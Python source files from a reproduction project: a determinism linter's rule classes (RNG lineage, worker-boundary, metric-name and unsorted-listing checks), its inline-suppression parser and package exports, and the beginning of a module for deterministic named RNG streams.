    hint = "wrap the listing call in sorted(...) at the call site"

    _OS_FUNCS = ("os.listdir", "os.scandir", "os.walk")
    _GLOB_FUNCS = ("glob.glob", "glob.iglob")
    _PATH_METHODS = ("glob", "rglob", "iterdir")

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        sorted_wrapped: Set[int] = set()
        for node in ast.walk(ctx.tree):
            if (isinstance(node, ast.Call)
                    and isinstance(node.func, ast.Name)
                    and node.func.id == "sorted"):
                for arg in node.args:
                    sorted_wrapped.add(id(arg))
        glob_imports = set()
        for node in ast.walk(ctx.tree):
            if isinstance(node, ast.ImportFrom) and node.module == "glob":
                for alias in node.names:
                    glob_imports.add(alias.asname or alias.name)
        for node in ast.walk(ctx.tree):
            if not isinstance(node, ast.Call) or id(node) in sorted_wrapped:
                continue
            dotted = _dotted(node.func)
            listing = None
            if dotted in self._OS_FUNCS or dotted in self._GLOB_FUNCS:
                listing = dotted
            elif isinstance(node.func, ast.Name) \
                    and node.func.id in glob_imports:
                listing = f"glob.{node.func.id}"
            elif (isinstance(node.func, ast.Attribute)
                    and node.func.attr in self._PATH_METHODS
                    and not isinstance(node.func.value, ast.Name)):
                # Path-object methods; skip module-level x.glob handled above.
                listing = f".{node.func.attr}"
            elif (isinstance(node.func, ast.Attribute)
                    and node.func.attr in self._PATH_METHODS
                    and isinstance(node.func.value, ast.Name)
                    and node.func.value.id not in ("os", "glob")):
                listing = f"{node.func.value.id}.{node.func.attr}"
            if listing:
                yield self.finding(
                    ctx, node, f"unsorted listing `{listing}(...)`"
                )


class RegistryNamesRule(Rule):
    """Metric names and trace kinds must be declared in ``repro.obs.names``.

    ``Metrics`` is schema-free, so a typo at a call site silently forks a
    counter into two series that ``Metrics.merge`` folds without
    complaint.  Literal names are checked exactly; f-string names must
    have a literal head that can reach a declared ``*`` family.
    """

    id = "registry-names"
    summary = "undeclared metric name / trace kind"
    hint = "declare the name in repro/obs/names.py (or fix the typo)"

    #: The obs layer defines the instruments; the lint layer quotes them.
    EXEMPT = ("obs/", "lint/")

    _FAMILY_OF_FUNC = {
        "inc": "counter",
        "_metric_inc": "counter",
        "counter": "counter",
        "gauge_set": "gauge",
        "gauge_max": "gauge",
        "observe": "histogram",
        "histogram": "histogram",
        "timer": "histogram",
        "span": "span",
        "emit": "trace",
    }

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        if ctx.in_layer(*self.EXEMPT):
            return
        for node in ast.walk(ctx.tree):
            if not isinstance(node, ast.Call) or not node.args:
                continue
            family = self._FAMILY_OF_FUNC.get(_func_name(node) or "")
            if family is None:
                continue
            declared = _names.FAMILIES[family]
            arg = node.args[0]
            if isinstance(arg, ast.Constant) and isinstance(arg.value, str):
                if not _names.is_declared(arg.value, declared):
                    yield self.finding(
                        ctx, arg,
                        f"{family} name {arg.value!r} is not declared in "
                        f"repro.obs.names",
                    )
            elif isinstance(arg, ast.JoinedStr):
                head = ""
                if arg.values and isinstance(arg.values[0], ast.Constant):
                    head = str(arg.values[0].value)
                if not _names.prefix_may_match(head, declared):
                    yield self.finding(
                        ctx, arg,
                        f"dynamic {family} name (head {head!r}) matches no "
                        f"declared family in repro.obs.names",
                    )


# -- graph-aware (whole-program) rules -----------------------------------------


class ProjectRule(Rule):
    """A rule that sees the whole :class:`~repro.lint.graph.ProjectGraph`.

    Per-file :meth:`check` is a no-op; the engine builds the graph once
    per run and calls :meth:`check_project`.  Findings anchor at real
    source locations, so inline ``# repro: lint-ok[rule-id]`` comments
    and the baseline apply exactly as they do for per-file rules.
    """

    def check(self, ctx: FileContext) -> Iterator[Finding]:
        return iter(())

    def check_project(self, graph: ProjectGraph) -> Iterator[Finding]:
        raise NotImplementedError

    def project_finding(
        self, path: str, node: ast.AST, message: str,
    ) -> Finding:
        return Finding(
            path=path,
            line=getattr(node, "lineno", 1),
            col=getattr(node, "col_offset", 0),
            rule=self.id,
            message=message,
            hint=self.hint,
        )


class DeterminismFlowRule(ProjectRule):
    """Nondeterministic values must not reach deterministic output.

    The interprocedural taint engine (:mod:`repro.lint.dataflow`) seeds
    taint at wall-clock reads, env reads, ``id()``/``hash()`` identity,
    process identity and unsorted listings, and propagates it along the
    call graph into store appends, trace payloads and hashed output.
    Each finding anchors at the sink and carries the full source→sink
    call path.  The obs/lint layers are sanitizers: values they return
    are trusted clean (their own clock reads are audited by the per-file
    ``wall-clock`` rule and the volatile-fields contracts).
    """

    id = "determinism-flow"
    summary = "nondeterministic value flows into deterministic output"
    hint = ("derive the value from (config, seed), or route the "
            "measurement through the obs layer (the sanctioned clock "
            "boundary); sort listings at the source")

    def check_project(self, graph: ProjectGraph) -> Iterator[Finding]:
        for flow in DataflowAnalysis(graph).run():
            yield Finding(
                path=flow.path, line=flow.line, col=flow.col,
                rule=self.id, message=flow.message, hint=self.hint,
            )


@dataclass(frozen=True)
class _StreamSite:
    """One statically-resolved RNG stream construction/derivation."""

    name: str                 # resolved stream name; families end with "*"
    exact: bool               # False for f-string families
    module: str
    package: str
    scope: Tuple[str, str]    # (module, class name or function qualname)
    path: str
    line: int
    col: int
    fid: str
    var: Optional[str]        # local variable the stream was bound to


class RngLineageRule(ProjectRule):
    """The named-stream derivation tree must stay collision-free.

    Statically resolves every stream name reaching ``RngStream`` /
    ``derive_stream_seed`` / ``.child`` — literals, f-string heads, and
    chains through locals and ``self.<attr>`` bindings — then flags:

    * **collisions** — the same exact name constructed in two unrelated
      scopes (two modules, or two top-level scopes of one module).  Two
      constructions of one name draw the *same* underlying sequence, so
      a consumer added to either silently re-deals the other;
    * **orphans** — a stream bound to a local that is never used (a dead
      derivation that still shifts nothing today but documents intent
      that no code implements);
    * **headless dynamic names** — f-string names with no literal head
      (unauditable: the derivation tree can't place them);
    * **multi-module draws** — one stream object drawn from in two or
      more modules (the worker-count-invariance hazard: shard boundaries
      split the draw sequence between processes).
    """

    id = "rng-lineage"
    summary = "RNG stream lineage violation (collision/orphan/dynamic)"
    hint = ("give every stream one owning construction site; derive "
            "variants with .child(); keep each stream's draws in one "
            "module")

    _CTOR_NAMES = ("RngStream", "derive_stream_seed")

    #: The stream implementation itself derives names dynamically.
    ALLOWED = ("simulation/rng.py",)

    def check_project(self, graph: ProjectGraph) -> Iterator[Finding]:
        sites: List[_StreamSite] = []
        headless: List[Tuple[str, ast.AST]] = []
        draws: Dict[str, Dict[str, Tuple[str, int]]] = {}
        class_attrs: Dict[Tuple[str, str, str], str] = {}
        param_streams: Dict[str, Dict[str, str]] = {}

        # Two passes: the first fills class-attribute and callee-parameter
        # stream bindings, the second resolves chains through them.
        for final in (False, True):
            sites.clear()
            headless.clear()
            draws.clear()
            for fid in sorted(graph.functions):
                fn = graph.functions[fid]
                self._scan_function(
                    graph, fn, sites, headless, draws,
                    class_attrs, param_streams, final,
                )

        flagged: Set[Tuple[str, int, int]] = set()

        # Headless dynamic names.
        for path, node in headless:
            yield self.project_finding(
                path, node,
                "dynamic stream name with no literal head (the derivation "
                "tree cannot place it)",
            )

        # Collisions: one exact name, several unrelated scopes.
        by_name: Dict[str, List[_StreamSite]] = {}
        for site in sites:
            if site.exact:
                by_name.setdefault(site.name, []).append(site)
        for name in sorted(by_name):
            group = sorted(by_name[name],
                           key=lambda s: (s.module, s.line, s.col))
            scopes = {s.scope for s in group}
            if len(scopes) < 2:
                continue
            owner = self._owner(name, group)
            for site in group:
                if site.scope == owner.scope:
                    continue
                key = (site.path, site.line, site.col)
                if key in flagged:
                    continue
                flagged.add(key)
                yield Finding(
                    path=site.path, line=site.line, col=site.col,
                    rule=self.id,
                    message=(
                        f"stream name {name!r} collides with its owning "
                        f"construction in {owner.path}:{owner.line} — two "
                        f"constructions share one draw sequence"
                    ),
                    hint=self.hint,
                )

        # Orphans: bound to a local that is never read.
        for site in sites:
            if site.var is None:
                continue
            fn = graph.functions[site.fid]
            if self._loads_of(fn.node, site.var) > 0:
                continue
            key = (site.path, site.line, site.col)
            if key in flagged:
                continue
            flagged.add(key)
            yield Finding(
                path=site.path, line=site.line, col=site.col,
                rule=self.id,
                message=(
                    f"orphan stream {site.name!r}: bound to "
                    f"`{site.var}` but never drawn, derived or passed on"
                ),
                hint=self.hint,
            )

        # Multi-module draws.
        for name in sorted(draws):
            modules = draws[name]
            if len(modules) < 2:
                continue
            group = sorted((s for s in sites if s.name == name),
                           key=lambda s: (s.module, s.line, s.col))
            anchor = group[0] if group else None
            if anchor is None:
                continue
            key = (anchor.path, anchor.line, anchor.col)
            if key in flagged:
                continue
            flagged.add(key)
            where = ", ".join(
                f"{mod} ({loc[0]}:{loc[1]})"
                for mod, loc in sorted(modules.items())
            )
            yield Finding(
                path=anchor.path, line=anchor.line, col=anchor.col,
                rule=self.id,
                message=(
                    f"stream {name!r} is drawn from in "
                    f"{len(modules)} modules: {where} — one draw sequence "
                    f"split across shard boundaries"
                ),
                hint=self.hint,
            )

    # -- scanning ----------------------------------------------------------

    def _scan_function(
        self, graph: ProjectGraph, fn: FunctionInfo,
        sites: List[_StreamSite], headless: List[Tuple[str, ast.AST]],
        draws: Dict[str, Dict[str, Tuple[str, int]]],
        class_attrs: Dict[Tuple[str, str, str], str],
        param_streams: Dict[str, Dict[str, str]],
        final: bool,
    ) -> None:
        if fn.rel in self.ALLOWED:
            return
        module = graph.modules[fn.module]
        env: Dict[str, str] = dict(param_streams.get(fn.fid, {}))

        def resolve_stream(expr: ast.expr) -> Optional[str]:
            """The stream name an expression evaluates to, if resolvable."""
            if isinstance(expr, ast.Name):
                return env.get(expr.id)
            if isinstance(expr, ast.Attribute) \
                    and isinstance(expr.value, ast.Name) \
                    and expr.value.id == "self" and fn.class_name:
                return class_attrs.get(
                    (fn.module, fn.class_name, expr.attr))
            if isinstance(expr, ast.Call):
                resolved = self._resolve_ctor(expr, resolve_stream, module)
                if resolved is not None:
                    return resolved[0]
            return None

        def record(call: ast.Call, var: Optional[str]) -> Optional[str]:
            resolved = self._resolve_ctor(call, resolve_stream, module)
            if resolved is None:
                if final and self._is_headless(call, resolve_stream):
                    headless.append((fn.path, call))
                return None
            name, exact = resolved
            if final:
                scope = (fn.module, fn.class_name or fn.qualname)
                sites.append(_StreamSite(
                    name=name, exact=exact, module=fn.module,
                    package=module.package, scope=scope, path=fn.path,
                    line=call.lineno, col=call.col_offset, fid=fn.fid,
                    var=var,
                ))
            return name

        for node in ast.walk(fn.node):
            if isinstance(node, ast.Assign) and len(node.targets) == 1:
                target = node.targets[0]
                value = node.value
                if isinstance(value, ast.BoolOp):
                    # ``rng = rng or RngStream(...)`` default idiom.
                    calls = [v for v in value.values
                             if isinstance(v, ast.Call)]
                    value = calls[0] if len(calls) == 1 else value
                if not isinstance(value, ast.Call):
                    continue
                if isinstance(target, ast.Name):
                    name = record(value, target.id)
                    if name is not None:
                        env[target.id] = name
                elif isinstance(target, ast.Attribute) \
                        and isinstance(target.value, ast.Name) \
                        and target.value.id == "self" and fn.class_name:
                    name = record(value, None)
                    if name is not None:
                        class_attrs[(fn.module, fn.class_name,
                                     target.attr)] = name
            elif isinstance(node, ast.Call):
                if not self._is_assigned_call(node, fn.node):
                    record(node, None)

        # Draw sites + one level of stream propagation into callees.
        for call in ast.walk(fn.node):
            if not isinstance(call, ast.Call):
                continue
            func = call.func
            if isinstance(func, ast.Attribute) and func.attr not in (
                    "child",) + self._CTOR_NAMES:
                receiver = resolve_stream(func.value)
                if receiver is not None:
                    draws.setdefault(receiver, {}).setdefault(
                        fn.module, (fn.path, call.lineno))
        for site in fn.calls:
            if len(site.targets) != 1:
                continue
            target = graph.functions[site.targets[0]]
            offset = 1 if target.class_name is not None \
                and isinstance(site.node.func, ast.Attribute) else 0
            for pos, arg in enumerate(site.node.args):
                name = resolve_stream(arg)
                if name is None:
                    continue
                index = pos + offset
                if index >= len(target.params):
                    continue
                bound = param_streams.setdefault(target.fid, {})
                param = target.params[index]
                if bound.get(param, name) != name:
                    bound[param] = ""   # ambiguous: two caller streams
                elif name:
                    bound[param] = name
            for kw in site.node.keywords:
                if kw.arg is None or kw.arg not in target.params:
                    continue
                name = resolve_stream(kw.value)
                if name is None:
                    continue
                bound = param_streams.setdefault(target.fid, {})
                if bound.get(kw.arg, name) != name:
                    bound[kw.arg] = ""
                elif name:
                    bound[kw.arg] = name

    def _resolve_ctor(
        self, call: ast.Call, resolve_stream, module: ModuleInfo,
    ) -> Optional[Tuple[str, bool]]:
        """(resolved name, exact) for a stream construction, else None."""
        func = call.func
        terminal = func.attr if isinstance(func, ast.Attribute) else (
            func.id if isinstance(func, ast.Name) else None)
        if terminal in self._CTOR_NAMES:
            name_arg: Optional[ast.expr] = None
            if len(call.args) >= 2:
                name_arg = call.args[1]
            else:
                for kw in call.keywords:
                    if kw.arg == "name":
                        name_arg = kw.value
            if name_arg is None:
                return None
            return self._resolve_name_expr(name_arg, resolve_stream)
        if isinstance(func, ast.Attribute) and func.attr == "child" \
                and call.args:
            parent = resolve_stream(func.value)
            suffix = call.args[0]
            if parent is None or parent.endswith("*"):
                return None
            resolved = self._resolve_name_expr(suffix, resolve_stream)
            if resolved is None:
                return None
            suffix_name, exact = resolved
            return f"{parent}.{suffix_name}", exact
        return None

    def _resolve_name_expr(
        self, expr: ast.expr, resolve_stream,
    ) -> Optional[Tuple[str, bool]]:
        if isinstance(expr, ast.Constant) and isinstance(expr.value, str):
            return expr.value, True
        if isinstance(expr, ast.JoinedStr) and expr.values:
            first = expr.values[0]
            if isinstance(first, ast.Constant):
                head = str(first.value)
                return (head + "*", False) if head else None
            if isinstance(first, ast.FormattedValue) \
                    and isinstance(first.value, ast.Attribute) \
                    and first.value.attr == "name":
                # ``f"{stream.name}.suffix..."``: resolvable prefix.
                parent = resolve_stream(first.value.value)
                if parent is not None and not parent.endswith("*"):
                    tail = "".join(
                        str(v.value) for v in expr.values[1:]
                        if isinstance(v, ast.Constant)
                    )
                    return f"{parent}{tail}*", False
        return None

    def _is_headless(self, call: ast.Call, resolve_stream) -> bool:
        """True for a stream ctor whose f-string name has no usable head."""
        func = call.func
        terminal = func.attr if isinstance(func, ast.Attribute) else (
            func.id if isinstance(func, ast.Name) else None)
        if terminal not in self._CTOR_NAMES:
            return False
        name_arg: Optional[ast.expr] = None
        if len(call.args) >= 2:
            name_arg = call.args[1]
        else:
            for kw in call.keywords:
                if kw.arg == "name":
                    name_arg = kw.value
        if not isinstance(name_arg, ast.JoinedStr):
            return False
        return self._resolve_name_expr(name_arg, resolve_stream) is None

    @staticmethod
    def _is_assigned_call(call: ast.Call, fn_node: ast.AST) -> bool:
        """True when ``call`` is the RHS (or or-default) of an Assign."""
        for node in ast.walk(fn_node):
            if isinstance(node, ast.Assign):
                value = node.value
                if value is call:
                    return True
                if isinstance(value, ast.BoolOp) \
                        and any(v is call for v in value.values):
                    return True
        return False

    @staticmethod
    def _loads_of(fn_node: ast.AST, var: str) -> int:
        return sum(
            1 for node in ast.walk(fn_node)
            if isinstance(node, ast.Name) and node.id == var
            and isinstance(node.ctx, ast.Load)
        )

    @staticmethod
    def _owner(name: str, group: List[_StreamSite]) -> _StreamSite:
        """The site that legitimately owns ``name``.

        The head component of a dotted stream name doubles as the owning
        package (``"workload.deployment"`` belongs to ``workload``);
        fall back to the first site in (module, line) order.
        """
        head = name.split(".")[0]
        for site in group:
            if site.package == head:
                return site
        return group[0]


class WorkerBoundaryRule(ProjectRule):
    """What crosses a scheduler worker boundary must be safe to ship.

    Worker entry points are the targets of ``Process(target=...)`` plus
    the spool-node entries (:data:`EXTRA_ENTRIES` — they run in external
    node processes).  Everything reachable from them executes in a
    worker, where:

    * module-level mutable state diverges per process — mutations there
      are lost or doubled depending on worker count.  Names ending in
      ``_CACHE``/``_MEMO`` are sanctioned per-process memo caches (the
      naming convention is the audit trail);
    * payloads shipped across the boundary (``Process`` args, queue
      ``put``, backend ``submit``) must pickle — lambdas, nested
      functions, generators and open file handles do not;
    * blocking calls reachable from ``async def`` entry points would
      stall the event loop the always-on farm service plans to run
      (ROADMAP item 1).

    The obs/lint layers are exempt from the mutation check: their
    per-process state (metrics registries) merges through explicit
    telemetry channels audited by the scheduler contract.
    """

    id = "worker-boundary"
    summary = "unsafe state or payload at a worker boundary"
    hint = ("ship plain picklable data; keep per-worker state inside the "
            "worker function (or a *_CACHE per-process memo); never "
            "block an async path")

    EXTRA_ENTRIES: Tuple[str, ...] = (
        "repro.sched.node:run_claimed",
        "repro.sched.node:service_pending",
    )
    EXEMPT_LAYERS: Tuple[str, ...] = ("obs/", "lint/")
    CACHE_SUFFIXES: Tuple[str, ...] = ("_CACHE", "_MEMO")

    _SHIP_METHODS = ("put", "put_nowait", "submit")
    _BLOCKING_DOTTED = ("time.sleep", "subprocess.run", "subprocess.call",
                        "subprocess.check_output", "subprocess.check_call")

    def check_project(self, graph: ProjectGraph) -> Iterator[Finding]:
        entries = self._worker_entries(graph)
        reachable = graph.reachable(entries)
        for fid in sorted(reachable):
            fn = graph.functions[fid]
            if any(fn.rel == p or fn.rel.startswith(p)
                   for p in self.EXEMPT_LAYERS):
                continue
            yield from self._check_mutations(graph, fn)
        for fid in sorted(graph.functions):
            yield from self._check_payloads(graph, graph.functions[fid])
        yield from self._check_async_blocking(graph)

    # -- worker entries ----------------------------------------------------

    def _worker_entries(self, graph: ProjectGraph) -> List[str]:
        entries = [fid for fid in self.EXTRA_ENTRIES
                   if fid in graph.functions]
        for fn in graph.functions.values():
            module = graph.modules[fn.module]
            for call in ast.walk(fn.node):
                if not isinstance(call, ast.Call):
                    continue
                terminal = call.func.attr \
                    if isinstance(call.func, ast.Attribute) else (
                        call.func.id if isinstance(call.func, ast.Name)
                        else None)
                if terminal != "Process":
                    continue
                for kw in call.keywords:
                    if kw.arg == "target" and isinstance(kw.value, ast.Name):
                        fid = self._function_named(
                            graph, module, kw.value.id)
                        if fid is not None:
                            entries.append(fid)
        return sorted(set(entries))

    @staticmethod
    def _function_named(graph: ProjectGraph, module: ModuleInfo,
                        name: str) -> Optional[str]:
        if name in module.functions:
            return module.functions[name]
        dotted = module.from_imports.get(name)
        if dotted is not None:
            mod, _, attr = dotted.rpartition(".")
            info = graph.modules.get(mod)
            if info is not None and attr in info.functions:
                return info.functions[attr]
        return None

    # -- module-level mutable state ----------------------------------------

    def _check_mutations(
        self, graph: ProjectGraph, fn: FunctionInfo,
    ) -> Iterator[Finding]:
        module = graph.modules[fn.module]
        watched = {
            name for name in module.module_mutables
            if not name.endswith(self.CACHE_SUFFIXES)
        }
        if not watched:
            return
        local: Set[str] = set(fn.params)
        for node in ast.walk(fn.node):
            if isinstance(node, ast.Assign):
                for target in node.targets:
                    if isinstance(target, ast.Name):
                        local.add(target.id)
        globals_declared: Set[str] = set()
        for node in ast.walk(fn.node):
            if isinstance(node, ast.Global):
                globals_declared.update(node.names)
        watched -= (local - globals_declared)

        def flag(node: ast.AST, name: str, how: str) -> Finding:
            return self.project_finding(
                fn.path, node,
                f"module-level mutable `{name}` {how} in worker-executed "
                f"`{fn.qualname}` — per-process state diverges with "
                f"worker count",
            )

        for node in ast.walk(fn.node):
            if isinstance(node, (ast.Assign, ast.AugAssign)):
                targets = node.targets if isinstance(node, ast.Assign) \
                    else [node.target]
                for target in targets:
                    root = target
                    while isinstance(root, (ast.Subscript, ast.Attribute)):
                        root = root.value
                    if isinstance(root, ast.Name) and root.id in watched \
                            and root is not target:
                        yield flag(node, root.id, "mutated")
                    elif isinstance(target, ast.Name) \
                            and target.id in watched \
                            and target.id in globals_declared:
                        yield flag(node, target.id, "rebound")
            elif isinstance(node, ast.Call) \
                    and isinstance(node.func, ast.Attribute) \
                    and node.func.attr in _MUTATING_METHODS \
                    and isinstance(node.func.value, ast.Name) \
                    and node.func.value.id in watched:
                yield flag(node, node.func.value.id,
                           f"mutated via `.{node.func.attr}(...)`")

    # -- unpicklable payloads ----------------------------------------------

    def _check_payloads(
        self, graph: ProjectGraph, fn: FunctionInfo,
    ) -> Iterator[Finding]:
        module = graph.modules[fn.module]
        nested = {
            qual.rsplit(".", 1)[-1]
            for qual in module.functions
            if qual.startswith(f"{fn.qualname}.")
        }
        for call in ast.walk(fn.node):
            if not isinstance(call, ast.Call):
                continue
            payloads: List[ast.expr] = []
            func = call.func
            terminal = func.attr if isinstance(func, ast.Attribute) else (
                func.id if isinstance(func, ast.Name) else None)
            if terminal == "Process":
                for kw in call.keywords:
                    if kw.arg in ("args", "kwargs"):
                        payloads.append(kw.value)
            elif isinstance(func, ast.Attribute) \
                    and terminal in self._SHIP_METHODS:
                payloads.extend(call.args)
                payloads.extend(kw.value for kw in call.keywords
                                if kw.arg is not None)
            for payload in payloads:
                for problem, node in self._unpicklable(payload, nested):
                    yield self.project_finding(
                        fn.path, node,
                        f"{problem} crosses a worker boundary in "
                        f"`{fn.qualname}` — it cannot pickle",
                    )

    @staticmethod
    def _unpicklable(
        payload: ast.expr, nested: Set[str],
    ) -> Iterator[Tuple[str, ast.AST]]:
        for node in ast.walk(payload):
            if isinstance(node, ast.Lambda):
                yield "a lambda", node
            elif isinstance(node, ast.GeneratorExp):
                yield "a generator expression", node
            elif isinstance(node, ast.Call) \
                    and isinstance(node.func, ast.Name) \
                    and node.func.id == "open":
                yield "an open file handle", node
            elif isinstance(node, ast.Name) and node.id in nested \
                    and isinstance(node.ctx, ast.Load):
                yield f"nested function `{node.id}`", node

    # -- blocking calls on async paths -------------------------------------

    def _check_async_blocking(
        self, graph: ProjectGraph,
    ) -> Iterator[Finding]:
        async_entries = [fid for fid, fn in graph.functions.items()
                         if fn.is_async]
        if not async_entries:
            return
        reachable = graph.reachable(async_entries, include_dynamic=False)
        for fid in sorted(reachable):
            fn = graph.functions[fid]
            module = graph.modules[fn.module]
            for call in ast.walk(fn.node):
                if not isinstance(call, ast.Call):
                    continue
                blocking = self._blocking_desc(call, module)
                if blocking is not None:
                    origin = "" if fn.is_async else (
                        " (reachable from an async entry point)")
                    yield self.project_finding(
                        fn.path, call,
                        f"blocking call {blocking} on an async path in "
                        f"`{fn.qualname}`{origin} — it stalls the event "
                        f"loop",
                    )

    def _blocking_desc(
        self, call: ast.Call, module: ModuleInfo,
    ) -> Optional[str]:
        func = call.func
        if isinstance(func, ast.Name) and func.id == "input":
            return "`input()`"
        dotted = dotted_name(func)
        if dotted is None:
            return None
        root, _, rest = dotted.partition(".")
        base = module.imports.get(root) or module.from_imports.get(root)
        resolved = f"{base}.{rest}" if base and rest else (
            base if base else dotted)
        if resolved in self._BLOCKING_DOTTED:
            return f"`{resolved}(...)`"
        return None


#: Mutating container methods the worker-boundary rule watches for.
_MUTATING_METHODS = frozenset({
    "append", "add", "update", "pop", "popitem", "extend", "setdefault",
    "clear", "remove", "discard", "insert", "appendleft", "extendleft",
})


#: Every rule, in reporting order.  The engine instantiates from here.
ALL_RULES: Tuple[type, ...] = (
    GlobalRandomRule,
    WallClockRule,
    UnorderedIterRule,
    MutableDefaultRule,
    BareExceptRule,
    UnsortedListingRule,
    RegistryNamesRule,
    DeterminismFlowRule,
    RngLineageRule,
    WorkerBoundaryRule,
)


def default_rules() -> List[Rule]:
    return [rule() for rule in ALL_RULES]


def rules_by_id() -> Dict[str, type]:
    return {rule.id: rule for rule in ALL_RULES}


def select_rules(ids: Sequence[str]) -> List[Rule]:
    """Instantiate the rules named by ``ids`` (unknown ids raise)."""
    table = rules_by_id()
    unknown = [i for i in ids if i not in table]
    if unknown:
        known = ", ".join(sorted(table))
        raise ValueError(f"unknown rule(s) {unknown!r}; known: {known}")
    return [table[i]() for i in ids]
