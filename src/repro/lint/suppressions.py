"""Inline suppression comments: ``# repro: lint-ok[rule-id]``.

A suppression written on the same line as the flagged construct silences
that rule there; a suppression comment on a line of its own applies to the
next code line (for constructs too long to share a line with a comment).
``# repro: lint-ok`` without a bracket silences every rule on that line —
reserve it for generated code.  Multiple rules separate with commas:
``# repro: lint-ok[wall-clock, bare-except]``.

Suppressions are deliberately line-scoped, not file- or block-scoped: the
point of the linter is that every exception to a determinism invariant is
visible, justified, and greppable at the exact site it applies.
"""

from __future__ import annotations

import io
import re
import tokenize
from typing import Dict, FrozenSet

#: The marker matched inside comments (bracket part optional).
_PATTERN = re.compile(
    r"#\s*repro:\s*lint-ok(?:\[\s*([A-Za-z0-9_,\s\-]*?)\s*\])?"
)

#: Sentinel rule-set meaning "every rule".
ALL_RULES: FrozenSet[str] = frozenset({"*"})


def collect_suppressions(source: str) -> Dict[int, FrozenSet[str]]:
    """Map line number -> rule ids suppressed on that line.

    Standalone suppression comments attach to the next line as well as
    their own, so both placements work.  Unparseable sources return no
    suppressions (the engine reports the syntax error separately).
    """
    suppressed: Dict[int, FrozenSet[str]] = {}
    try:
        tokens = list(tokenize.generate_tokens(io.StringIO(source).readline))
    except (tokenize.TokenError, IndentationError, SyntaxError):
        return suppressed
    for token in tokens:
        if token.type != tokenize.COMMENT:
            continue
        match = _PATTERN.search(token.string)
        if not match:
            continue
        rules_text = match.group(1)
        if rules_text is None:
            rules = ALL_RULES
        else:
            rules = frozenset(
                part.strip() for part in rules_text.split(",") if part.strip()
            )
            if not rules:
                rules = ALL_RULES
        line = token.start[0]
        standalone = token.line[: token.start[1]].strip() == ""
        suppressed[line] = suppressed.get(line, frozenset()) | rules
        if standalone:
            suppressed[line + 1] = suppressed.get(line + 1, frozenset()) | rules
    return suppressed


def is_suppressed(
    suppressions: Dict[int, FrozenSet[str]], line: int, rule: str
) -> bool:
    rules = suppressions.get(line)
    if not rules:
        return False
    return "*" in rules or rule in rules
