"""Determinism & invariant linter (static analysis over the pipeline).

The reproduction's core guarantee — byte-identical stores and
worker-count-invariant metrics/traces — is a set of *coding invariants*:
randomness only through named ``RngStream`` s, no wall-clock reads outside
the obs layer, no set-iteration feeding ordered output, declared metric
names only.  This package checks them statically, before any dataset is
generated:

>>> from repro.lint import run_lint
>>> result = run_lint(["src"])
>>> result.clean
True

CLI: ``python -m repro lint [paths] [--format text|json] [--baseline F]``.
Suppress one site with ``# repro: lint-ok[rule-id]``; grandfathered
findings live in a checked-in baseline file.  See DESIGN section 6e for
the rule-by-rule rationale.
"""

from repro.lint.baseline import (
    BaselineRatchetError,
    DEFAULT_BASELINE,
    apply_baseline,
    load_baseline,
    write_baseline,
)
from repro.lint.dataflow import DataflowAnalysis, Evidence, TaintFinding
from repro.lint.engine import LintResult, iter_python_files, lint_file, run_lint
from repro.lint.findings import Finding, render_text, to_json
from repro.lint.graph import ProjectGraph
from repro.lint.rules import (
    ALL_RULES,
    FileContext,
    ProjectRule,
    Rule,
    default_rules,
    rules_by_id,
    select_rules,
)
from repro.lint.sarif import to_sarif, validate_sarif
from repro.lint.suppressions import collect_suppressions, is_suppressed

__all__ = [
    "ALL_RULES",
    "BaselineRatchetError",
    "DEFAULT_BASELINE",
    "DataflowAnalysis",
    "Evidence",
    "FileContext",
    "Finding",
    "LintResult",
    "ProjectGraph",
    "ProjectRule",
    "Rule",
    "TaintFinding",
    "apply_baseline",
    "collect_suppressions",
    "default_rules",
    "is_suppressed",
    "iter_python_files",
    "lint_file",
    "load_baseline",
    "render_text",
    "rules_by_id",
    "run_lint",
    "select_rules",
    "to_json",
    "to_sarif",
    "validate_sarif",
    "write_baseline",
]
