"""Deterministic named RNG streams.

Every stochastic decision in the simulator draws from an :class:`RngStream`.
Streams are derived from a master seed and a dotted name
(``"workload.scanners"``, ``"campaign.H1.arrivals"`` ...), so adding a new
consumer of randomness never perturbs the draws of existing consumers — a
property that keeps calibrated traces stable as the codebase grows.
"""

from __future__ import annotations

import hashlib
from typing import Iterator, Optional, Sequence, TypeVar

import numpy as np

from repro.obs import inc as _metric_inc
from repro.obs import metrics as _obs_metrics

T = TypeVar("T")


def derive_stream_seed(master_seed: int, name: str) -> int:
    """The 64-bit seed a named stream derives from ``master_seed``.

    Public so that non-``Generator`` consumers of determinism (the
    ``repro.analytics`` sketches seed their hash functions this way) share
    the exact same derivation as the simulator's named streams.
    """
    digest = hashlib.sha256(f"{master_seed}:{name}".encode("utf-8")).digest()
    return int.from_bytes(digest[:8], "big")


# Backwards-compatible alias (predates the public spelling).
_derive_seed = derive_stream_seed


def weight_cdf(p) -> np.ndarray:
    """Normalised cumulative distribution over weight vector ``p``.

    This is exactly the array :meth:`RngStream.choice_indices` builds
    internally for weighted draws with replacement; precomputing it once
    and passing it back via the ``cdf=`` parameter skips the per-call
    cumsum without changing a single drawn value.
    """
    p = np.asarray(p, dtype=np.float64)
    if p.size == 0:
        raise ValueError("cannot build a cdf over an empty weight vector")
    cdf = np.cumsum(p, dtype=np.float64)
    if cdf[-1] <= 0.0:
        raise ValueError("choice weights must sum to a positive value")
    cdf /= cdf[-1]
    return cdf


class RngStream:
    """A named, deterministic random stream backed by numpy's PCG64."""

    def __init__(self, master_seed: int, name: str = "root"):
        self.master_seed = int(master_seed)
        self.name = name
        self._gen = np.random.Generator(np.random.PCG64(_derive_seed(master_seed, name)))
        _metric_inc("rng.streams_created")

    @property
    def _rng(self) -> np.random.Generator:
        """The underlying generator; every draw method reads it exactly once
        per call, so this property doubles as the per-draw counter.  The
        increment is inlined (no function call) — this sits under every
        draw in the generation hot path."""
        c = _obs_metrics._CURRENT.counters
        try:
            c["rng.draws"] += 1
        except KeyError:
            c["rng.draws"] = 1
        return self._gen

    def child(self, suffix: str) -> "RngStream":
        """Derive an independent child stream named ``<name>.<suffix>``."""
        return RngStream(self.master_seed, f"{self.name}.{suffix}")

    # -- scalar draws -----------------------------------------------------

    def random(self) -> float:
        return float(self._rng.random())

    def uniform(self, low: float = 0.0, high: float = 1.0) -> float:
        return float(self._rng.uniform(low, high))

    def randint(self, low: int, high: int) -> int:
        """Uniform integer in ``[low, high)``."""
        return int(self._rng.integers(low, high))

    def exponential(self, mean: float) -> float:
        return float(self._rng.exponential(mean))

